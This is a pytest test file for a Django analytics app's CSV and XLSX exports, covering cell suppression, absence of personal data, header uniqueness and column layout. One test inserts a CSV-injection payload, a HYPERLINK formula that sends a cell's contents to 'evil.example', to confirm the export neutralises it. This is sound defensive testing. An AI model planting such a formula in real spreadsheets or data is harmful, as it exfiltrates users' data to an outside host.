"""CSV and XLSX (`analytics/exports.py`) carry exactly the dashboard's figures, hidden cells included, and no person.
The PDF: test_pdf.py."""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from analytics import figures
from analytics.periods import Period
from analytics.selectors.filters import Filters
from analytics.selectors.statistics import statistics_for
from analytics.snapshot import snapshot_refresh
from facilities.models import Facility

pytestmark = pytest.mark.django_db

JULY = "?period=2025-07"


@pytest.fixture
def english(client, analyst):
    client.cookies["django_language"] = "en"
    client.force_login(analyst)
    return client


def csv_rows(client, query=JULY) -> list[list[str]]:
    response = client.get(reverse("analytics:export_csv") + query)
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


HEADER = [
    "table code",
    "table",
    "category code",
    "category",
    "measure code",
    "measure",
    "unit",
    "period role",
    "period",
    "value",
    "hidden as",
    "district filter",
    "facility kind filter",
    "data cut-off",
]
FIELDS = ["table_code", "table", "code", "category", "measure", "measure_name", "unit", "role", "period", "value",
          "hidden", "district", "kind", "cutoff"]  # fmt: skip


def records(rows: list[list]) -> list[dict]:
    """The export as dicts, after checking that every line has a value under every header."""
    assert rows[0] == HEADER
    assert all(len(row) == len(HEADER) for row in rows[1:])
    return [dict(zip(FIELDS, row, strict=True)) for row in rows[1:]]


def figure(rows: list[dict], table: str, code: str, measure="count", role="period") -> dict:
    [found] = [r for r in rows if (r["table_code"], r["code"], r["measure"], r["role"]) == (table, code, measure, role)]
    return found


def xlsx_sheets(client, query=JULY):
    response = client.get(reverse("analytics:export_xlsx") + query)
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in workbook.worksheets}


def test_csv_is_tidy_one_line_per_figure_with_the_dashboards_hidden_cells(english, known_data):
    rows = records(csv_rows(english))
    stats = statistics_for(Filters(Period.parse("2025-07")))
    # Every table row gives three lines: its count in each period and the change.
    for table in stats.tables:
        lines = [r for r in rows if r["table_code"] == table.key]
        assert len(lines) == 3 * len(table.rows), table.key
        for row in table.rows:
            category = "Incidents" if table.key == "trend" else row.label
            counts = [r for r in lines if r["category"] == category and r["measure"] == "count"]
            shown = [(r["value"], r["hidden"]) for r in counts]
            if table.key != "trend":
                assert shown == [
                    ("" if cell.hidden else str(cell.value), cell.text if cell.hidden else "")
                    for cell in (row.current, row.previous)
                ]
    facility = {
        r["category"]: r for r in rows if (r["table_code"], r["role"], r["measure"]) == ("facility", "period", "count")
    }
    assert (facility["Children's B"]["value"], facility["Children's B"]["hidden"]) == ("", "<3")
    # The total or Hospital A (5) is hidden, or B's 1 would be the total minus A. (A is the multi-profile kind's
    # only facility, and B the children's: with the kinds' tables suppressed in the same run, issue 10, it is A.)
    assert "x" in (facility["Hospital A"]["hidden"], facility["Incidents"]["hidden"])
    assert facility["Hospital A"]["code"] == known_data["a"].code
    assert not any(r["value"] in {"1", "2"} for r in rows if r["measure"] == "count")


def test_csv_and_xlsx_exports_draw_no_chart(english, known_data, monkeypatch):
    def refuse_to_draw(*args, **kwargs):
        raise AssertionError("a chart was drawn")

    for name in [name for name in dir(figures) if not name.startswith("_") and callable(getattr(figures, name))]:
        if getattr(getattr(figures, name), "__module__", "") == figures.__name__:
            monkeypatch.setattr(figures, name, refuse_to_draw)
    # Control: the dashboard shows charts, so with the chart module refusing it fails; the exports show none.
    with pytest.raises(AssertionError, match="a chart was drawn"):
        english.get(reverse("analytics:dashboard") + JULY)
    rows = csv_rows(english)
    assert ["facility", "By facility"] in [row[:2] for row in rows]
    sheets = xlsx_sheets(english)
    assert len(sheets["Statistics"]) == len(rows)


PERIOD_LABEL = re.compile(r"^(\d{4})(-\d{2})?$")


def test_every_csv_line_has_its_values_under_the_right_headers(english, known_data, settings):
    settings.QORGAU_STATS_MIN_CELL = 1
    rows = records(csv_rows(english))
    stats = statistics_for(Filters(Period.parse("2025-07")))
    for r in rows:
        assert PERIOD_LABEL.match(r["period"]), r
        assert r["role"] in ("period", "year_earlier"), r
        assert r["unit"] in ("incidents", "victims", "attackers", "minutes", "days", "percent"), r
        assert not PERIOD_LABEL.match(r["category"]), r
        assert r["value"] == "" or re.match(r"^-?\d+$", r["value"]), r
        if r["role"] == "year_earlier":
            assert r["period"] == Period.parse(r["period"]).label and r["measure"] != "change_percent", r
    trend = [r for r in rows if r["table_code"] == "trend" and r["role"] == "period" and r["measure"] == "count"]
    assert [r["period"] for r in trend] == [p.label for p in stats.filters.period.trend()]
    assert {r["category"] for r in trend} == {"Incidents"} and {r["unit"] for r in trend} == {"incidents"}
    july = [r for r in rows if r["table_code"] == "trend" and r["period"] in ("2025-07", "2024-07")]
    assert {(r["period"], r["measure"], r["value"]) for r in july} == {
        ("2025-07", "count", "6"),
        ("2024-07", "count", "1"),
        ("2025-07", "change_percent", "500"),
    }
    assert figure(rows, "part", "1")["value"] == "3"
    assert figure(rows, "part", "1")["period"] == "2025-07"
    assert figure(rows, "part", "1", role="year_earlier")["period"] == "2024-07"
    assert figure(rows, "headline", "incidents")["value"] == "6"
    assert figure(rows, "timings", "ack_minutes", measure="median")["unit"] == "minutes"
    assert figure(rows, "timings", "erdr_days", measure="median")["unit"] == "days"
    assert figure(rows, "timings", "erdr_days", measure="cases")["value"] == "2"


def test_xlsx_is_the_csv_with_numbers_typed_as_numbers(english, known_data, personal_data):
    sheets = xlsx_sheets(english)
    assert list(sheets) == ["Statistics", "Data dictionary", "About"]
    sheet = sheets["Statistics"]
    assert sheet[0] == HEADER
    as_text = [["" if value is None else str(value) for value in row] for row in sheet]
    assert as_text == csv_rows(english)
    values = [row[HEADER.index("value")] for row in sheet[1:]]
    assert all(value is None or type(value) is int for value in values)
    assert any(isinstance(value, int) and value > 0 for value in values)
    assert "<3" in [row[HEADER.index("hidden as")] for row in sheet[1:]]
    flat = " ".join(as_text[i][j] for i in range(len(as_text)) for j in range(len(HEADER)))
    for value in personal_data:
        assert value not in flat, value


def test_a_pivot_table_reads_the_csv_as_it_is(english, known_data, settings):
    """What pandas or a pivot table does: group the lines by table and period and sum the values. The part table's
    parts add up to its total, with nothing but the dimension columns to go by."""
    settings.QORGAU_STATS_MIN_CELL = 1
    rows = records(csv_rows(english))
    parts = [r for r in rows if r["table_code"] == "part" and r["measure"] == "count" and r["role"] == "period"]
    total = sum(int(r["value"]) for r in parts if r["code"] != "total")
    assert total == int(figure(rows, "part", "total")["value"]) == 6


def test_xlsx_has_a_data_dictionary_sheet(english, known_data):
    sheets = xlsx_sheets(english)
    dictionary = {row[0]: row[1] for row in sheets["Data dictionary"][1:]}
    for name in HEADER:
        assert dictionary[f"column “{name}”"], name
    assert dictionary["table code “facility”"] == "By facility"
    assert "Hidden figures" in dictionary and "<3" in dictionary["Hidden figures"]
    assert "Asia/Almaty" in dictionary["Period"]


def test_csv_and_its_filters(english, known_data, south):
    rows = records(csv_rows(english, f"{JULY}&district={south.pk}"))
    assert {(r["district"], r["kind"]) for r in rows} == {("South", "all")}
    assert {r["cutoff"] for r in rows} != {""}


def test_csv_has_no_personal_data(english, known_data, personal_data):
    text = "\n".join(",".join(row) for row in csv_rows(english))
    assert "Hospital A" in text  # the check below reads the real export
    for value in personal_data:
        assert value not in text, value


def test_a_name_that_looks_like_a_formula_is_plain_text_in_csv_and_xlsx(english, known_data):
    """A facility named "=HYPERLINK(…)" must not become a live formula (OWASP CSV injection)."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    Facility.objects.filter(name_en="Hospital A").update(name_en=hostile)
    snapshot_refresh()
    cells = [cell for row in csv_rows(english) for cell in row]
    assert "'" + hostile in cells and hostile not in cells

    response = english.get(reverse("analytics:export_xlsx") + JULY)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    shown = [cell for cell in values if hostile in str(cell.value)]
    assert shown and all(cell.data_type == "s" and str(cell.value).startswith("'=") for cell in shown)
    # Figures stay numbers, negative changes included.
    assert any(cell.data_type == "n" for cell in values)


def test_headers_are_unique_in_every_language(client, analyst, known_data):
    """Issue 11 and 18: a spreadsheet reads each column by its header (two "количество" columns were one)."""
    client.force_login(analyst)
    for language in ("ru", "kk", "en"):
        client.cookies["django_language"] = language
        header = csv_rows(client)[0]
        assert len(set(header)) == len(header) == len(HEADER), (language, header)


def test_the_dashboards_other_figures_are_exported_too(english, known_data, settings):
    """The trend by act, the heat map and the refusals by part: one line per cell, as the tables."""
    import datetime as dt

    settings.QORGAU_STATS_MIN_CELL = 1
    rows = records(csv_rows(english))
    [threat] = [r for r in rows if (r["table_code"], r["code"], r["period"]) == ("trend_act", "threat", "2025-07")]
    assert threat["value"] == "4"
    heat = {r["code"]: r["value"] for r in rows if r["table_code"] == "heat"}
    assert len(heat) == 7 * 24 + 7 + 24 + 1
    # The heat map counts July's whole year (analytics/selectors/details.py): 8 incidents of 2025.
    assert heat[f"{dt.date(2025, 7, 3).isoweekday()}-10"] == "1" and heat["total"] == "8"
    assert sum(int(value) for code, value in heat.items() if "-" in code) == 8
    assert {r["period"] for r in rows if r["table_code"] == "heat"} == {"2025"}
    refusals = {r["code"]: r["value"] for r in rows if r["table_code"] == "refusals"}
    assert refusals["refused:5"] == "1" and refusals["refused:total"] == "1" and refusals["no_offence:total"] == "0"


def test_hidden_heat_map_cells_are_hidden_in_the_export(english, known_data):
    rows = records(csv_rows(english))
    heat = [r for r in rows if r["table_code"] == "heat" and "-" in r["code"]]
    assert {r["hidden"] for r in heat if r["value"] == ""} == {"<3"}
    assert not any(r["value"] in ("1", "2") for r in heat)
